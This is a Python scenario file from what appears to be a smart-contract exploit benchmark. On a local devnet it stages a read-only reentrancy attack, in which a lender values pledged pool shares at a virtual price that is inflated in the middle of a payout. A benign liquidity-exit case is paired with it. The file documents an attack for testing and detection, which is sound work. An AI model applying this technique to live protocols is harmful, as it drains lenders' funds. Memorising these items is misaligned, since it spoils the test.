"""A stable ether/token pool whose virtual price is wrong while it pays, and a lender reading it.

- `gen-read-only-reentrancy`: StablePool.removeLiquidity burns the shares and pays the ether
  before booking the reserves (behind a lock, so the pool itself cannot be re-entered); the
  attacker's receive() pledges its last shares to LpLender, which values them at the pool's
  unguarded `getVirtualPrice()` (9.5x par at that moment), and borrows the lender's whole cash.
- `gen-lp-exit-callback` (benign): carol's SmartWallet removes its own liquidity; the ether lands
  in its receive() hook mid-update, which only forwards it to carol.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import Contract
from timemachine.catalog.scenarios.generalization.kit import (
    ATTACKER,
    MAX,
    deploy_own,
    expect,
)
from timemachine.catalog.scenarios.world import World

HONEST_LIQUIDITY = 100 * ETHER
"""alice's ether and token (1:1) in the pool: 200 shares."""
ATTACK_LIQUIDITY = 900 * ETHER
KEPT = 10 * ETHER
"""Shares the attacker keeps and pledges mid-removal."""
LENDER_CASH = {"carol": 30, "dave": 20}
ATTACK_GAS = 1_500_000
WALLET_LIQUIDITY = 10 * ETHER


async def _pool(world: World, label: str) -> tuple[Contract, Contract]:
    """A GenToken ("STB") and a StablePool seeded by alice with 100 ETH + 100 STB."""
    chain = world.chain
    token = await deploy_own(chain, "deployer", "GenToken", "Stable", "STB", name=f"{label} STB")
    await chain.mine()
    pool = await deploy_own(chain, "deployer", "StablePool", token.address, name=label)
    await token.send("deployer", "mint", actor_address("alice"), HONEST_LIQUIDITY)
    await chain.mine()
    await token.send("alice", "approve", pool.address, MAX)
    await pool.send("alice", "addLiquidity", HONEST_LIQUIDITY, value=HONEST_LIQUIDITY)
    await chain.mine()
    return token, pool


async def stage_read_only_reentrancy(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    token, pool = await _pool(world, "StablePool")
    lender = await deploy_own(chain, "deployer", "LpLender", pool.address)
    exploiter = await deploy_own(chain, ATTACKER, "VirtualPriceExploiter")
    await token.send("deployer", "mint", a(ATTACKER), ATTACK_LIQUIDITY)
    await chain.mine()
    await lender.fund("supply", LENDER_CASH)
    await token.send(ATTACKER, "transfer", exploiter.address, ATTACK_LIQUIDITY)
    await chain.mine()
    cash = sum(LENDER_CASH.values()) * ETHER
    outcome = await measure_exploit(
        chain,
        lambda: exploiter.send(
            ATTACKER,
            "attack",
            pool.address,
            lender.address,
            ATTACK_LIQUIDITY,
            KEPT,
            value=ATTACK_LIQUIDITY,
            gas=ATTACK_GAS,
        ),
        attackers=[a(ATTACKER), exploiter.address],
        victims=[lender.address],
        tokens=[token.address],
        expected_losses={"ETH": cash},
        what="read-only reentrancy",
    )
    # 1,800 shares minted, 1,790 removed for 895 ETH + 895 STB; 10 shares (5 + 5) stay pledged.
    pledged = 5 * ETHER
    expect(
        "read-only reentrancy profit",
        outcome.profit,
        {"ETH": cash - pledged - outcome.fee, token.address.lower(): -pledged},
    )
    expect("pledged shares", await pool.call("balanceOf", lender.address), KEPT)
    return READ_ONLY_REENTRANCY.exploited(
        outcome, attacker=a(ATTACKER), contracts=[exploiter.address], victims=[lender.address]
    )


async def stage_lp_exit(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    token, pool = await _pool(world, "StablePool (benign)")
    wallet = await deploy_own(chain, "carol", "SmartWallet")
    await chain.mine()
    await token.send("deployer", "mint", wallet.address, WALLET_LIQUIDITY)
    approve = token.artifact.calldata("approve", pool.address, MAX)
    await wallet.send("carol", "execute", token.address, 0, approve)
    add = pool.artifact.calldata("addLiquidity", WALLET_LIQUIDITY)
    await wallet.send(
        "carol", "execute", pool.address, WALLET_LIQUIDITY, add, value=WALLET_LIQUIDITY
    )
    await chain.mine()
    shares = await pool.call("balanceOf", wallet.address)
    expect("wallet shares", shares, 2 * WALLET_LIQUIDITY)
    remove = pool.artifact.calldata("removeLiquidity", shares)
    carol_before = await chain.balance(a("carol"))
    tx = await wallet.send("carol", "execute", pool.address, 0, remove, gas=400_000)
    block = await chain.mine()
    expect(
        "carol's ether back",
        await chain.balance(a("carol")) - carol_before,
        WALLET_LIQUIDITY - block.fee(tx),
    )
    expect("wallet tokens back", await token.call("balanceOf", wallet.address), WALLET_LIQUIDITY)
    return LP_EXIT.honest(tx, block, "carol")


READ_ONLY_REENTRANCY = declared("gen-read-only-reentrancy", stage_read_only_reentrancy)
LP_EXIT = declared("gen-lp-exit-callback", stage_lp_exit)
